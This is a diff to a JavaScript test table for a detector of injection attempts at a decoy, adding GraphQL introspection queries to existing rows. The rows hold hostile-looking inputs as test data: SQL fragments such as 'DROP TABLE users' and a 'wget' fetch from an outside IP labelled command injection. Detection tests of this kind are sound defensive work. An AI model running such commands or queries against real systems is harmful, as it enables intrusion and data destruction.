@@ -64,6 +64,8 @@ test.each([
   ['DROP TABLE users', 'sql_injection'],
   ["insert into users values ('a')", 'sql_injection'],
   ['wget http://203.0.113.9/a', 'command_injection'],
+  ['{__schema{types{name}}}', 'nosql_injection'],
+  ['query A { __type(name: "B") { name } }', 'nosql_injection'],
 ])('at a decoy the fragment %j is found', (text, type) => {
   expect(found(text, 'decoy')).toContain(type);
 });
